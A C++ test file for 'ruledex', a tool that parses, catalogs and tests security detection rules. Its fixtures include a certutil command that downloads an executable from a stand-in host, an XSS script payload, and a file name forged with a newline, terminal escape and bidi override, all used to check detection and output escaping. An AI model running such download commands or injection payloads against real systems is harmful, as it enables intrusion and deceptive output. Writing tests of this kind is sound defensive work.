// End-to-end tests of the ruledex command: the built binary, run as a user runs it.

#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <cstdlib>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <set>
#include <string>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <random>

#include <map>

#include <nlohmann/json.hpp>

namespace {

struct Invocation {
  int exit_code = -1;
  std::string out;
  std::string err;
};

std::string quoted(const std::string& arg) {
  std::string q = "'";
  for (char c : arg) q += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return q + "'";
}

std::string read_all(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

// Runs ruledex, killed after timeout_seconds (exit code 124) so that a hang
// fails the test. stderr goes to run.err, or with_stderr into run.out too.
Invocation ruledex(const std::vector<std::string>& args, bool with_stderr = false, int timeout_seconds = 120) {
  const auto err_file = std::filesystem::temp_directory_path() / ("ruledex-cli-test-" + std::to_string(getpid()) + ".err");
  std::string command = "timeout " + std::to_string(timeout_seconds) + " " + quoted(RULEDEX_BINARY);
  for (const auto& arg : args) command += " " + quoted(arg);
  command += with_stderr ? " 2>&1" : " 2>" + quoted(err_file.string());
  Invocation run;
  FILE* pipe = popen(command.c_str(), "r");
  if (!pipe) return run;
  std::array<char, 4096> buffer;
  while (size_t n = fread(buffer.data(), 1, buffer.size(), pipe)) run.out.append(buffer.data(), n);
  int status = pclose(pipe);
  run.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  run.err = read_all(err_file);
  std::filesystem::remove(err_file);
  return run;
}

std::filesystem::path shared_dir() { return RULEDEX_SHARED_DIR; }

std::filesystem::path temp_file(const std::string& name, const std::string& content) {
  auto dir = std::filesystem::temp_directory_path() / "ruledex-cli-test";
  std::filesystem::create_directories(dir);
  auto path = dir / name;
  std::ofstream(path, std::ios::binary) << content;
  return path;
}

TEST(ShowCommand, SeedRuleJsonContract) {
  auto seed = shared_dir() / "seed" / "AWS_CredentialHijack.yaml";
  if (!std::filesystem::exists(seed)) GTEST_SKIP() << "shared data not found at " << shared_dir();
  Invocation run = ruledex({"show", seed.string(), "--format", "json", "--attack",
                     (shared_dir() / "attack" / "enterprise-attack.json").string()});
  ASSERT_EQ(run.exit_code, 0);
  auto rule = nlohmann::json::parse(run.out);

  EXPECT_EQ(rule["id"], "32555639-b639-4c2b-afda-c0ae0abefa55");
  EXPECT_EQ(rule["platform"], "sentinel");
  EXPECT_EQ(rule["language"], "kql");
  EXPECT_EQ(rule["severity"], "Low");
  EXPECT_EQ(rule["techniques"], nlohmann::json::parse(R"([{"id":"T1580","name":"Cloud Infrastructure Discovery"}])"));

  std::vector<std::pair<std::string, int>> stages;
  for (const auto& stage : rule["stages"]) stages.emplace_back(stage["kind"], stage["steps"]);
  EXPECT_EQ(stages, (std::vector<std::pair<std::string, int>>{
                        {"source", 1}, {"where", 1}, {"extend", 4}, {"summarize", 1}, {"extend", 1}, {"sort", 1}}));
  EXPECT_EQ(rule["stages"][0]["line"], 27);  // the query's first line in the file

  auto expected_indicators = nlohmann::json::parse(R"([
    {"field":"EventName","op":"eq","negated":false,"case_sensitive":false,"values":["GetCallerIdentity"]},
    {"field":"UserIdentityType","op":"eq","negated":false,"case_sensitive":false,"values":["AssumedRole"]}])");
  ASSERT_EQ(rule["indicators"].size(), 2u);
  for (size_t i = 0; i < 2; ++i)
    for (const auto& [key, value] : expected_indicators[i].items()) EXPECT_EQ(rule["indicators"][i][key], value) << key;

  std::set<std::string> fields;
  for (const auto& field : rule["output_fields"]) {
    fields.insert(field["name"]);
    EXPECT_EQ(field["stage"], field["name"] == "timestamp" ? "extend" : "summarize") << field["name"];
  }
  EXPECT_EQ(fields, (std::set<std::string>{
                        "AWSRegion", "AccountName", "AccountUPNSuffix", "AdditionalEventData", "EndTime",
                        "EventName", "EventSource", "EventTypeName", "RecipientAccountId", "ResponseElements",
                        "SessionMfaAuthenticated", "SourceIpAddress", "StartTime", "UserAgent",
                        "UserIdentityAccountId", "UserIdentityPrincipalid", "UserIdentityType",
                        "UserIdentityUserName", "timestamp"}));
  EXPECT_TRUE(rule["diagnostics"].empty());
}

TEST(ShowCommand, ExampleThatShipsWithTheProject) {
  Invocation run = ruledex({"show", std::string(RULEDEX_SOURCE_DIR) + "/examples/sentinel/aws_getcalleridentity_assumed_role.yaml"});
  EXPECT_EQ(run.exit_code, 0);
  EXPECT_NE(run.out.find("Stages and predicates"), std::string::npos);
  EXPECT_NE(run.out.find("GetCallerIdentity"), std::string::npos);
}

TEST(ShowCommand, SeveralQueriesGiveAnArray) {
  auto file = temp_file("two.kql", "DeviceEvents\n| where ActionType == \"A\"\n\nDeviceEvents\n| where ActionType == \"B\"\n");
  Invocation run = ruledex({"show", file.string(), "--format", "json"});
  ASSERT_EQ(run.exit_code, 0);
  auto rules = nlohmann::json::parse(run.out);
  ASSERT_TRUE(rules.is_array());
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[1]["indicators"][0]["values"][0], "B");
  EXPECT_EQ(rules[1]["stages"][0]["line"], 4);
}

TEST(ShowCommand, BrokenQueryReportsLineAndColumn) {
  auto file = temp_file("broken.yaml",
                        "id: x\nname: broken\nseverity: Low\nqueryFrequency: 1h\ntactics: []\nquery: |\n"
                        "  SecurityEvent\n  | where EventID == (4624\n  | project Account\n");
  Invocation run = ruledex({"show", file.string(), "--format", "json"});
  ASSERT_EQ(run.exit_code, 0);  // the page is written; the rule carries its error
  auto rule = nlohmann::json::parse(run.out);
  ASSERT_FALSE(rule["diagnostics"].empty());
  EXPECT_EQ(rule["diagnostics"][0]["severity"], "error");
  // Found where the query ends (after `Account` on file line 9), pointing back
  // at the '(' on line 8, columns shifted by the YAML indent.
  EXPECT_EQ(rule["diagnostics"][0]["line"], 9);
  EXPECT_EQ(rule["diagnostics"][0]["column"], 20);
  EXPECT_NE(rule["diagnostics"][0]["message"].get<std::string>().find("(opened at line 8, column 22)"),
            std::string::npos)
      << rule["diagnostics"][0]["message"];
}

TEST(ShowCommand, HtmlNeverCarriesRuleMarkup) {
  auto file = temp_file("xss.kql", "SecurityEvent | where Account == \"<script>alert(1)</script>\"\n");
  Invocation run = ruledex({"show", file.string(), "--format", "html"});
  ASSERT_EQ(run.exit_code, 0);
  EXPECT_EQ(run.out.find("<script>alert"), std::string::npos);
  EXPECT_NE(run.out.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);
}

TEST(ShowCommand, ExitCodes) {
  EXPECT_EQ(ruledex({"show", "/nonexistent/rule.yaml"}).exit_code, 2);
  EXPECT_EQ(ruledex({"show"}).exit_code, 2);
  EXPECT_EQ(ruledex({"show", temp_file("data.csv", "a,b\n1,2\n").string()}).exit_code, 1);
  EXPECT_EQ(ruledex({"show", temp_file("r.kql", "T | take 1\n").string(), "--attack", "/nonexistent.json"}).exit_code, 2);
}

TEST(StatsCommand, CountsAndExitsZeroOnFailures) {
  auto dir = std::filesystem::temp_directory_path() / "ruledex-cli-stats";
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "good.kql") << "SigninLogs | where ResultType == 50126\n";
  std::ofstream(dir / "bad.kql") << "SigninLogs | wher ResultType == 50126\n";
  Invocation run = ruledex({"stats", dir.string(), "--json"});
  ASSERT_EQ(run.exit_code, 0);
  auto stats = nlohmann::json::parse(run.out);
  ASSERT_EQ(stats["failures"].size(), 1u);
  EXPECT_NE(stats["failures"][0]["file"].get<std::string>().find("bad.kql"), std::string::npos);
  EXPECT_EQ(stats["failures"][0]["line"], 1);
  EXPECT_EQ(stats["failures"][0]["column"], 14);
  EXPECT_EQ(stats["platforms"][0]["clean"], 1);
  EXPECT_EQ(stats["platforms"][0]["failed"], 1);
}

TEST(StatsCommand, CountsUnknownSplMacrosAndCommands) {
  auto dir = std::filesystem::temp_directory_path() / "ruledex-cli-stats-spl" / "detections";
  std::filesystem::remove_all(dir.parent_path());
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "a.yml") << "name: A\nid: 1\nhow_to_implement: x\nsearch: '`nope` | frobnicate | stats count | `a_filter`'\n";
  std::ofstream(dir / "b.yml") << "name: B\nid: 2\nhow_to_implement: x\nsearch: '| tstats count from datamodel=X | frobnicate'\n";
  Invocation text = ruledex({"stats", dir.string()});
  ASSERT_EQ(text.exit_code, 0);
  EXPECT_NE(text.out.find("unknown names in splunk (warnings): unknown SPL command 2, unknown macro 1"),
            std::string::npos)
      << text.out;
  auto stats = nlohmann::json::parse(ruledex({"stats", dir.string(), "--json"}).out);
  ASSERT_EQ(stats["platforms"].size(), 1u);
  EXPECT_EQ(stats["platforms"][0]["clean"], 2);
  EXPECT_EQ(stats["platforms"][0]["unknown"]["unknown SPL command"], 2);
  EXPECT_EQ(stats["platforms"][0]["unknown"]["unknown macro"], 1);
  ASSERT_EQ(stats["unknown_names"].size(), 2u);
  EXPECT_EQ(stats["unknown_names"][0]["message"], "unknown SPL command 'frobnicate'");
  EXPECT_EQ(stats["unknown_names"][0]["count"], 2);
}

std::filesystem::path fresh_dir(const std::string& name) {
  auto dir = std::filesystem::temp_directory_path() / name;
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  return dir;
}

size_t count_lines(const std::string& text) { return std::count(text.begin(), text.end(), '\n'); }

TEST(InputFiles, FifoNamedOnTheCommandLineIsAnErrorNotAHang) {
  auto dir = fresh_dir("ruledex-cli-fifo");
  auto fifo = dir / "rule.kql";
  ASSERT_EQ(mkfifo(fifo.c_str(), 0600), 0);
  Invocation show = ruledex({"show", fifo.string()}, true, 10);
  EXPECT_EQ(show.exit_code, 2) << show.out;
  EXPECT_NE(show.out.find("rule.kql: error: cannot read the file: not a regular file"), std::string::npos) << show.out;
  Invocation stats = ruledex({"stats", fifo.string(), "--json"}, false, 10);
  ASSERT_EQ(stats.exit_code, 0);
  EXPECT_EQ(nlohmann::json::parse(stats.out)["failures"][0]["message"], "cannot read the file: not a regular file");
  Invocation build = ruledex({"build", fifo.string(), "-o", (dir / "out").string()}, true, 10);
  EXPECT_EQ(build.exit_code, 0) << build.out;
  EXPECT_NE(build.out.find("rule.kql: cannot read the file: not a regular file"), std::string::npos) << build.out;
}

TEST(InputFiles, FifoInAFolderIsSkipped) {
  auto dir = fresh_dir("ruledex-cli-fifo-folder");
  std::ofstream(dir / "good.kql") << "SigninLogs | where ResultType == 50126\n";
  ASSERT_EQ(mkfifo((dir / "pipe.kql").c_str(), 0600), 0);
  Invocation stats = ruledex({"stats", dir.string(), "--json"}, false, 10);
  ASSERT_EQ(stats.exit_code, 0);
  auto json = nlohmann::json::parse(stats.out);
  EXPECT_EQ(json["files"], 1);
  EXPECT_TRUE(json["failures"].empty());
  std::filesystem::remove_all(dir.string() + "-out");
  EXPECT_EQ(ruledex({"build", dir.string(), "-o", (dir.string() + "-out")}, false, 10).exit_code, 0);
}

TEST(InputFiles, Utf16RuleShowsAsItsUtf8Original) {
  const std::string utf8 = "id: 1\r\nname: Wide rule\r\ntactics: []\r\nquery: |\r\n  SigninLogs\r\n"
                           "  | where ResultType == 50126\r\n";
  auto dir = fresh_dir("ruledex-cli-utf16");
  std::filesystem::create_directories(dir / "utf8" / "Hunting Queries");
  std::filesystem::create_directories(dir / "utf16" / "Hunting Queries");
  std::ofstream(dir / "utf8" / "Hunting Queries" / "wide.yaml", std::ios::binary) << utf8;
  std::string utf16 = "\xFF\xFE";
  for (char c : utf8) utf16 += std::string{c, '\0'};
  std::ofstream(dir / "utf16" / "Hunting Queries" / "wide.yaml", std::ios::binary) << utf16;

  auto show = [&](const std::string& encoding) {
    Invocation run = ruledex({"show", (dir / encoding / "Hunting Queries" / "wide.yaml").string(), "--format", "json"});
    EXPECT_EQ(run.exit_code, 0) << encoding;
    auto rule = nlohmann::json::parse(run.out.empty() ? "{}" : run.out);
    rule.erase("file");
    rule.erase("diagnostics");
    return rule;
  };
  EXPECT_EQ(show("utf16"), show("utf8"));
  Invocation run = ruledex({"show", (dir / "utf16" / "Hunting Queries" / "wide.yaml").string()}, true);
  EXPECT_NE(run.out.find("warning: text converted from UTF-16 LE"), std::string::npos) << run.out;
}

TEST(InputFiles, BinaryFileIsOneDiagnostic) {
  std::mt19937 random(13);
  std::string bytes(1 << 20, '\0');
  for (char& c : bytes) c = static_cast<char>(random());
  auto path = temp_file("random.yml", bytes);
  Invocation run = ruledex({"show", path.string()}, true);
  EXPECT_EQ(run.exit_code, 1);
  EXPECT_EQ(count_lines(run.out), 2u) << run.out.substr(0, 2000);  // "not text" and "not a rule file"
  EXPECT_NE(run.out.find("random.yml: warning: not text: "), std::string::npos) << run.out.substr(0, 2000);
}

// True when this process may list a folder of mode 000 (root may).
bool permissions_bypassed(const std::filesystem::path& folder) {
  DIR* listing = opendir(folder.c_str());
  if (listing) closedir(listing);
  return listing != nullptr;
}

TEST(InputFiles, FolderThatCannotBeListedIsAnErrorInEveryCommand) {
  auto dir = fresh_dir("ruledex-cli-locked");
  auto rules = dir / "rules";
  std::filesystem::create_directories(rules / "locked");
  std::ofstream(rules / "good.kql") << "SigninLogs | where ResultType == 50126\n";
  std::ofstream(rules / "locked" / "hidden.kql") << "SigninLogs | take 1\n";
  std::filesystem::permissions(rules / "locked", std::filesystem::perms::none);
  if (permissions_bypassed(rules / "locked")) {
    std::filesystem::permissions(rules / "locked", std::filesystem::perms::owner_all);
    GTEST_SKIP() << "this process may list a folder of mode 000 (root); run the test as another user";
  }
  const std::string expected = "locked: cannot list the folder: Permission denied";
  Invocation build = ruledex({"build", rules.string(), "-o", (dir / "out").string()}, true);
  Invocation stats = ruledex({"stats", rules.string(), "--json"});
  Invocation show = ruledex({"show", (rules / "locked" / "hidden.kql").string()}, true);
  std::filesystem::permissions(rules / "locked", std::filesystem::perms::owner_all);

  EXPECT_EQ(build.exit_code, 0) << build.out;
  EXPECT_NE(build.out.find(expected), std::string::npos) << build.out;
  ASSERT_EQ(stats.exit_code, 0);
  auto failures = nlohmann::json::parse(stats.out)["failures"];
  ASSERT_EQ(failures.size(), 1u) << stats.out;
  EXPECT_EQ(failures[0]["message"], "cannot list the folder: Permission denied");
  EXPECT_EQ(show.exit_code, 2);
  EXPECT_NE(show.out.find("hidden.kql: error: cannot read the file: Permission denied"), std::string::npos) << show.out;

  // The catalog holds the folder as an unreadable file with its error.
  std::string query = "SELECT f.format || '|' || d.message FROM files f JOIN diagnostics d ON d.file = f.path "
                      "WHERE f.path LIKE '%locked'";
  FILE* pipe = popen(("sqlite3 " + ::quoted((dir / "out" / "catalog.db").string()) + " " + ::quoted(query) +
                      " 2>/dev/null").c_str(), "r");
  ASSERT_NE(pipe, nullptr);
  std::string row;
  std::array<char, 256> buffer;
  while (size_t n = fread(buffer.data(), 1, buffer.size(), pipe)) row.append(buffer.data(), n);
  if (pclose(pipe) != 0) GTEST_SKIP() << "no sqlite3 command to check the catalog";
  EXPECT_EQ(row, "unreadable|cannot list the folder: Permission denied\n");
}

// A fresh folder of rule files for one test.
std::filesystem::path rule_folder(const std::string& name,
                                  const std::vector<std::pair<std::string, std::string>>& files) {
  auto dir = std::filesystem::temp_directory_path() / ("ruledex-cli-" + name);
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  for (const auto& [file, content] : files) std::ofstream(dir / file, std::ios::binary) << content;
  return dir;
}

// Hostile names: a newline forging a diagnostic line, an ESC sequence, a bidi override.
const std::string kForgedName = "evil\nforged.kql:1:1: error: forged\x1b[31m\u202e.kql";

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

void expect_terminal_safe(const std::string& text) {
  EXPECT_FALSE(contains(text, "\x1b")) << text;
  EXPECT_FALSE(contains(text, "\u202e")) << text;
  EXPECT_FALSE(contains(text, "\nforged.kql")) << text;
}

TEST(TerminalOutput, ShowEscapesFileNamesAndRuleText) {
  auto dir = rule_folder("show-names", {{kForgedName, "SigninLogs | wher ResultType == 1\n"}});
  Invocation run = ruledex({"show", (dir / kForgedName).string()});
  EXPECT_TRUE(contains(run.out, "evil\\nforged.kql:1:1: error: forged\\x1b[31m\\u202e.kql:1:14")) << run.out;
  expect_terminal_safe(run.out);
  Invocation missing = ruledex({"show", (dir / ("missing-" + kForgedName)).string()});
  EXPECT_EQ(missing.exit_code, 2);
  EXPECT_TRUE(contains(missing.err, "missing-evil\\nforged.kql")) << missing.err;
  expect_terminal_safe(missing.err);
}

TEST(TerminalOutput, StatsEscapesFileNamesInFailures) {
  auto dir = rule_folder("stats-names", {{kForgedName, "SigninLogs | wher ResultType == 1\n"}});
  Invocation run = ruledex({"stats", dir.string()});
  ASSERT_EQ(run.exit_code, 0);
  EXPECT_TRUE(contains(run.out, "evil\\nforged.kql:1:1: error: forged\\x1b[31m\\u202e.kql:1:")) << run.out;
  expect_terminal_safe(run.out);
}

TEST(TerminalOutput, BuildAndSearchEscapeRuleText) {
  auto dir = rule_folder("build-names", {{kForgedName, "SigninLogs | wher ResultType == 1\n"},
                                         {"good\x1b]0;title\x07.kql", "SigninLogs | where ResultType == 1\n"}});
  auto out = dir.parent_path() / "ruledex-cli-build-names-out";
  std::filesystem::remove_all(out);
  Invocation build = ruledex({"build", dir.string(), "-o", out.string()});
  ASSERT_EQ(build.exit_code, 0) << build.err;
  expect_terminal_safe(build.err);
  EXPECT_TRUE(contains(build.err, "evil\\nforged.kql")) << build.err;
  Invocation search = ruledex({"search", "SigninLogs", "--catalog", out.string()});
  ASSERT_EQ(search.exit_code, 0) << search.err;
  expect_terminal_safe(search.out);
  EXPECT_FALSE(contains(search.out, "\x07")) << search.out;
  EXPECT_TRUE(contains(search.out, "good\\x1b]0;title\\x07")) << search.out;
  std::filesystem::remove_all(out);
}

class SearchCommand : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto dir = rule_folder("search", {{"logon.kql", "SecurityEvent | where EventID == 4624\n"}});
    out_ = dir.parent_path() / "ruledex-cli-search-out";
    std::filesystem::remove_all(out_);
    ASSERT_EQ(ruledex({"build", dir.string(), "-o", out_.string()}).exit_code, 0);
  }
  static Invocation search(std::vector<std::string> args) {
    args.insert(args.begin(), {"search", "--catalog", out_.string()});
    return ruledex(args);
  }
  static std::filesystem::path out_;
};
std::filesystem::path SearchCommand::out_;

TEST_F(SearchCommand, OptionsAreCheckedBeforeTheQuery) {
  EXPECT_EQ(search({"SecurityEvent"}).exit_code, 0);
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"SecurityEvent", "--limit", "-1"}, {"SecurityEvent", "--limit", "0"},
        {"\"unbalanced", "--limit=-1"}}) {
    Invocation run = search(args);
    EXPECT_EQ(run.exit_code, 2) << args[2];
    EXPECT_TRUE(contains(run.err, "--limit")) << run.err;
    EXPECT_FALSE(contains(run.err, "search query")) << run.err;
  }
  for (const char* technique : {"%", "_1059", "T1059%", "T105"}) {
    Invocation run = search({"--technique", technique});
    EXPECT_EQ(run.exit_code, 2) << technique;
    EXPECT_TRUE(contains(run.err, "--technique")) << run.err;
    EXPECT_TRUE(contains(run.err, "not an ATT&CK technique id")) << run.err;
    EXPECT_EQ(run.out, "") << technique;
  }
  EXPECT_EQ(search({"--technique", "t1059.001"}).exit_code, 0);
  EXPECT_EQ(search({"SecurityEvent", "--timeout", "0"}).exit_code, 2);
  EXPECT_EQ(search({"SecurityEvent", "--timeout", "2.5"}).exit_code, 0);
}

TEST_F(SearchCommand, LargeQueriesAreRefusedQuickly) {
  std::string ors = "a";
  for (int i = 1; i < 2000; ++i) ors += " OR a";
  Invocation run = search({ors});
  EXPECT_EQ(run.exit_code, 2);
  EXPECT_TRUE(contains(run.err, "2000 terms")) << run.err;
}

TEST_F(SearchCommand, ForeignCatalogIsAClearError) {
  auto dir = std::filesystem::temp_directory_path() / "ruledex-cli-foreign";
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "catalog.db", std::ios::binary) << std::string(5000, '\x01');
  Invocation run = ruledex({"search", "x", "--catalog", dir.string()});
  EXPECT_EQ(run.exit_code, 2);
  EXPECT_TRUE(contains(run.err, "not a ruledex catalog")) << run.err;
  std::filesystem::remove_all(dir);
}

// `ruledex build` run from `dir`, as `cd dir && ruledex build ARGS...`; its exit code.
int build_in(const std::filesystem::path& dir, const std::vector<std::string>& args) {
  std::string command = "cd " + quoted(dir.string()) + " && " + quoted(RULEDEX_BINARY) + " build";
  for (const auto& arg : args) command += " " + quoted(arg);
  int status = std::system((command + " 2>/dev/null").c_str());
  return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

TEST(BuildCommand, NeverDeletesTheProjectItIsRunIn) {
  const auto project = std::filesystem::temp_directory_path() / "ruledex-cli-build-project";
  std::filesystem::remove_all(project);
  std::filesystem::create_directories(project / "rules");
  std::filesystem::copy_file(std::string(RULEDEX_SOURCE_DIR) + "/examples/sentinel/aws_getcalleridentity_assumed_role.yaml",
                             project / "rules" / "rule.yaml");
  std::ofstream(project / "cache") << "the project's own file named cache";
  EXPECT_EQ(build_in(project, {"rules", "-o", "."}), 2);
  EXPECT_EQ(build_in(project / "rules", {".", "-o", ".."}), 2);
  EXPECT_TRUE(std::filesystem::exists(project / "rules" / "rule.yaml"));
  EXPECT_TRUE(std::filesystem::exists(project / "cache"));

  EXPECT_EQ(build_in(project, {"rules", "-o", "out"}), 0);
  EXPECT_TRUE(std::filesystem::exists(project / "out" / ".ruledex-catalog"));
  EXPECT_EQ(build_in(project, {"rules", "-o", "out", "--force"}), 0);
  std::filesystem::remove_all(project);
}

// A Splunk app folder: its searches, with local/ over default/ and the app's
// own macros (local/ over default/ too) expanded.
TEST(BuildCommand, SplunkAppSearchesExpandTheAppsMacros) {
  namespace fs = std::filesystem;
  const fs::path root = fs::temp_directory_path() / "ruledex-cli-splunk-app";
  fs::remove_all(root);
  fs::create_directories(root / "app" / "default");
  fs::create_directories(root / "app" / "local");
  std::ofstream(root / "app" / "default" / "macros.conf") << "[sysmon]\ndefinition = index=old\n";
  std::ofstream(root / "app" / "local" / "macros.conf") << "[sysmon]\ndefinition = index=sysmon\n";
  std::ofstream(root / "app" / "default" / "savedsearches.conf")
      << "[Suspicious 7z]\nsearch = `sysmon` EventCode=1 \\\n| where process_name=\"7z.exe\"\ndisabled = 1\n";
  std::ofstream(root / "app" / "local" / "savedsearches.conf") << "[Suspicious 7z]\ndisabled = 0\n";
  Invocation run = ruledex({"build", (root / "app").string(), "-o", (root / "out").string()});
  ASSERT_EQ(run.exit_code, 0) << run.out;
  std::ifstream in(root / "out" / "rules.ndjson");
  std::string line;
  std::vector<nlohmann::json> rules;
  while (std::getline(in, line))
    if (!line.empty()) rules.push_back(nlohmann::json::parse(line));
  fs::remove_all(root);
  ASSERT_EQ(rules.size(), 1u);
  EXPECT_EQ(rules[0]["name"], "Suspicious 7z");
  EXPECT_EQ(rules[0]["language"], "spl");
  EXPECT_EQ(rules[0]["status"], "enabled");
  EXPECT_EQ(rules[0]["metadata"]["expanded search"], "index=sysmon EventCode=1 \n| where process_name=\"7z.exe\"");
  EXPECT_EQ(rules[0]["items"], nlohmann::json::parse(R"([{"kind": "macro", "name": "sysmon"}])"));
  EXPECT_EQ(rules[0]["indicators"].size(), 2u);
}

// SigmaHQ's regression tests: every rule fires on its EVTX recording and on
// the JSON rendering beside it, and match_count holds, except where the
// recording holds more events the rule's own logic matches than match_count
// says (listed: each matched event is a distinct file or registry write the
// rule names).
TEST(TestCommand, SigmaRegressionTestsPassOnEvtxAndJson) {
  const auto regression = shared_dir() / "events" / "sigma-regression" / "regression_data";
  if (!std::filesystem::exists(regression)) GTEST_SKIP() << "no shared regression data at " << regression;
  const std::map<std::string, std::string> known = {
      {"8fbf3271-1ef6-4e94-8210-03c2317947f6", "matched 3 events, expected 1"},  // procdump.exe, procdump64.exe, procdump64a.exe
      {"45e112d0-7759-4c2a-aa36-9f8fb79d3393", "matched 3 events, expected 1"},  // three ZoneMap\Domains values
      {"c7dcacd0-cc59-4004-b0a4-1d6cdebe6f3e", "matched 2 events, expected 1"},  // AutoShareServer and AutoShareWks
  };
  Invocation run = ruledex({"test", (shared_dir() / "corpus" / "sigma").string(), "--regression", regression.string(),
                            "--format", "json"}, false, 600);
  ASSERT_TRUE(run.exit_code == 0 || run.exit_code == 1) << run.err;
  nlohmann::json results = nlohmann::json::parse(run.out);
  size_t evtx = 0, json = 0;
  for (const auto& r : results) {
    const std::string events = r["events"];
    (events.ends_with(".evtx") ? evtx : json) += 1;
    EXPECT_TRUE(r["fired"].get<bool>()) << r["rule_id"] << " on " << events << ": " << r["failure"];
    if (r["passed"].get<bool>()) continue;
    auto reason = known.find(r["rule_id"]);
    ASSERT_NE(reason, known.end()) << r["rule_id"] << " on " << events << ": " << r["failure"];
    EXPECT_EQ(r["failure"], reason->second) << r["rule_id"];
  }
  EXPECT_GE(evtx, 100u);
  EXPECT_EQ(evtx, json);
}

TEST(TestCommand, ExpectationsAndJUnit) {
  auto rule = temp_file("whoami.yml", "title: Whoami\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n"
                                      "  product: windows\n  category: process_creation\ndetection:\n"
                                      "  selection:\n    Image|endswith: '\\whoami.exe'\n  filter:\n"
                                      "    User: 'NT AUTHORITY\\SYSTEM'\n  condition: selection and not filter\nlevel: low\n");
  auto event = [](std::string image, std::string user, int record) {
    return "{\"Event\": {\"System\": {\"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"EventID\": 1, "
           "\"EventRecordID\": " + std::to_string(record) + "}, \"EventData\": {\"Image\": \"" + image +
           "\", \"User\": \"" + user + "\"}}}\n";
  };
  auto events = temp_file("events.json", event("C:\\\\Windows\\\\System32\\\\whoami.exe", "bob", 1) +
                                             event("C:\\\\Windows\\\\System32\\\\whoami.exe", "NT AUTHORITY\\\\SYSTEM", 2) +
                                             event("C:\\\\Windows\\\\System32\\\\calc.exe", "bob", 3));
  auto expect = [&](int count) {
    return temp_file("info.yml", "rule_metadata:\n  - id: 11111111-2222-3333-4444-555555555555\n"
                                 "regression_tests_info:\n  - name: t\n    type: evtx\n    match_count: " +
                                     std::to_string(count) + "\n    path: events.json\n");
  };
  Invocation pass = ruledex({"test", rule.string(), "--events", events.string(), "--expect", expect(1).string()});
  EXPECT_EQ(pass.exit_code, 0) << pass.out << pass.err;
  EXPECT_NE(pass.out.find("PASS fired, 1 event"), std::string::npos) << pass.out;
  EXPECT_NE(pass.out.find("record 1"), std::string::npos) << pass.out;
  Invocation fail = ruledex({"test", rule.string(), "--events", events.string(), "--expect", expect(2).string(), "--format", "junit"});
  EXPECT_EQ(fail.exit_code, 1);
  EXPECT_NE(fail.out.find("<testsuite name=\"ruledex test\" tests=\"1\" failures=\"1\">"), std::string::npos) << fail.out;
  EXPECT_NE(fail.out.find("failure message=\"matched 1 events, expected 2\""), std::string::npos) << fail.out;
}

TEST(HuntCommand, DetectionsAsJsonLinesAndALayer) {
  auto rule = temp_file("hunt-rule.yml", "title: Certutil Download\nid: aaaaaaaa-2222-3333-4444-555555555555\n"
                                         "tags:\n  - attack.t1105\nlogsource:\n  product: windows\n  category: process_creation\n"
                                         "detection:\n  selection:\n    CommandLine|contains|all:\n      - 'certutil'\n"
                                         "      - 'urlcache'\n  condition: selection\nlevel: high\n");
  auto events = temp_file("hunt.jsonl",
                          "{\"Event\": {\"System\": {\"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"EventID\": 1}, "
                          "\"EventData\": {\"CommandLine\": \"certutil -urlcache -f http://x/a.exe\"}}}\n"
                          "not json\n"
                          "{\"Event\": {\"System\": {\"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"EventID\": 1}, "
                          "\"EventData\": {\"CommandLine\": \"certutil -decode a b\"}}}\n");
  auto layer = std::filesystem::temp_directory_path() / "ruledex-cli-test" / "hunt-layer.json";
  Invocation run = ruledex({"hunt", rule.string(), "--events", events.string(), "--layer", layer.string()});
  EXPECT_EQ(run.exit_code, 0) << run.err;
  auto detection = nlohmann::json::parse(run.out.substr(0, run.out.find('\n')));
  EXPECT_EQ(run.out.find('\n') + 1, run.out.size()) << "one detection: " << run.out;
  EXPECT_EQ(detection["rule_id"], "aaaaaaaa-2222-3333-4444-555555555555");
  EXPECT_EQ(detection["level"], "high");
  EXPECT_EQ(detection["events"][0]["line"], 1);
  EXPECT_EQ(detection["fields"]["CommandLine"], "certutil -urlcache -f http://x/a.exe");
  EXPECT_NE(run.err.find("hunt.jsonl:2"), std::string::npos) << "the bad line is reported: " << run.err;
  EXPECT_NE(run.err.find("1 fired, 1 detections"), std::string::npos) << run.err;
  auto layer_json = nlohmann::json::parse(read_all(layer));
  EXPECT_EQ(layer_json["techniques"][0]["techniqueID"], "T1105");
}

}  // namespace
